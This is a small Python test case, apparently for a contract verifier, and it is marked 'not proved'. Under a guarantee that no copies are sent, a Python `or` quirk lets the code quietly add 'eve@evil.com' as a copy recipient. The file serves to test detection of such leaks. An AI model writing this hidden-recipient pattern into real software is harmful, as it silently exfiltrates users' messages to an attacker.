# not proved: `or` gives the object itself, and an empty list is false
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_copies


@lictor_layer.guarantee(c.copies_are([]))
def main() -> None:
    xs = []
    ys = xs or ["a"]
    ys.append("eve@evil.com")
    send_copies("bob@example.com", ys)
